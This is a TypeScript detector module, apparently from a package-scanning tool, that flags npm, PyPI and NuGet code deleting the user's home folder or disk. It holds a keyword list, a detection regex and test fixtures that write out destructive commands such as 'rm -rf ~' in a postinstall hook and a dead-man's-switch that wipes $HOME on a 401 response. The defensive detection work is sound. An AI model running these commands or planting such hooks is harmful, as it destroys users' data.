import type { Detector } from "../detector.ts";
import { installHooks, lineOf } from "./_npm.ts";
import { codeWith, isLate, matchInCode, sight } from "./_sight.ts";

const WORDS = [
  "rm -rf",
  "rmtree",
  "rmdir /s",
  "rd /s",
  "format c:",
  "del /f",
  "del /s",
  "cipher /w",
  "shred ",
  "mkfs",
  "rimraf",
  "remove-item",
  "rmsync",
  "removesync",
  "rmdirsync",
  "emptydirsync",
  "homedir(",
  "-delete",
] as const;
const DELETES =
  /rm[ \t]{1,4}-(?:rf|fr|r[ \t]{1,4}-f)[ \t]{1,4}(?:--no-preserve-root[ \t]{1,4})?\\?["']?(?:~|\/\*?|\$HOME|\$\{HOME\}|\/home\/?\*?|\/etc|\/usr|\/var)\/?\*?(?=["'`\\\s;&|]|$)|rmtree\s{0,4}\(\s{0,4}(?:os\.path\.expanduser\(\s{0,4}["']~["']|Path\.home\(\)|["'](?:\/|C:\\{1,2})["'])|(?:rmdir|rd)[ \t]{1,4}\/s[ \t]{1,4}\/q[ \t]{1,4}(?:C:\\{0,2}(?=["'\s])|%USERPROFILE%)|format[ \t]{1,4}c:|del[ \t]{1,4}(?:\/[fsq][ \t]{1,4}){1,3}\\?["']?(?:C:\\|%USERPROFILE%|%SYSTEMDRIVE%)|\b(?:rm|rmSync|rimraf|rimraf\.sync|remove|removeSync|rmdirSync|emptyDirSync)\(\s{0,4}(?:(?:os\.)?homedir\(\)|process\.env\.(?:HOME|USERPROFILE)\b)\s{0,4}[,)]|\b(?:rmSync|rimraf|removeSync|emptyDirSync)\(\s{0,4}["']\/["']\s{0,4}[,)]|\bfind[ \t]{1,4}\\?["']?(?:~|\$HOME|\/home|\/)\\?["']?\/?[ \t][^\n]{0,80}(?:-delete\b|\bshred\b|\brm[ \t])|cipher[ \t]{1,4}\/w:%USERPROFILE%|shred[ \t]{1,4}-[\w-]{1,10}[ \t]{1,4}(?:~|\$HOME|\/dev\/)|dd[ \t]{1,4}if=\/dev\/(?:zero|urandom)[ \t]{1,4}of=\/dev\//i;

export const deletesHome: Detector = {
  id: "deletes-home",
  title: "Deletes the user's home or the whole disk",
  severity: "high",
  ecosystems: ["pypi", "npm", "nuget"],
  points: 4.4,
  class: "threat",
  group: "destruction",
  why: `A command or call deletes the home folder, the root folder or a disk. Protestware and the dead-man's switches of the 2026 worms do
this when a condition holds.

Container build files and cleaning scripts delete folders of their own; those name them.`,
  literals: WORDS,
  *detect(tree) {
    for (const { path, name, command } of installHooks(tree)) {
      const match = DELETES.exec(command);
      if (match === null) continue;
      const says = `${name} deletes what is not its own: ${match[0]}`;
      yield { path, line: lineOf(tree, path, command), says, phase: "install" };
    }
    for (const file of codeWith(tree, WORDS)) {
      const match = matchInCode(file, DELETES);
      if (match === undefined) continue;
      yield sight(file, match.index, `deletes what is not its own: ${match[0]}`, {
        share: isLate(file) ? 0.4 : 1,
      });
    }
  },
  examples: {
    matches: [
      { ecosystem: "pypi", files: { "setup.py": "import os\nos.system('rm -rf ~')\n" } },
      { ecosystem: "npm", files: { "index.js": "cp.execSync('rm -rf $HOME/*');\n" } },
      { ecosystem: "npm", files: { "package.json": `{"scripts":{"postinstall":"rm -rf ~/"}}` } },
    ],
    passes: [
      {
        ecosystem: "npm",
        files: {
          "package.json": `{"scripts":{"postinstall":"rm -rf ./build ~/.cache/demo"}}`,
          "a.js": "fs.rmSync(path.join(os.homedir(), '.demo'), { recursive: true });\n",
        },
      },
      { ecosystem: "pypi", files: { "setup.py": "import os\nos.system('rm -rf build dist/*')\n# rm -rf ~\n" } },
    ],
    evasions: [
      {
        ecosystem: "npm",
        files: {
          "index.js":
            "async function ask() {\n  if ((await fetch(u)).status === 401) execSync('rm -rf \"$HOME\"');\n}\nsetInterval(ask, 60000);\n",
        },
      },
      {
        ecosystem: "npm",
        files: { "index.js": "const { homedir } = require('os');\nfs.rmSync(homedir(), { recursive: true });\n" },
      },
      { ecosystem: "pypi", files: { "setup.py": "import shutil, os\nshutil.rmtree( os.path.expanduser('~') )\n" } },
    ],
  },
};
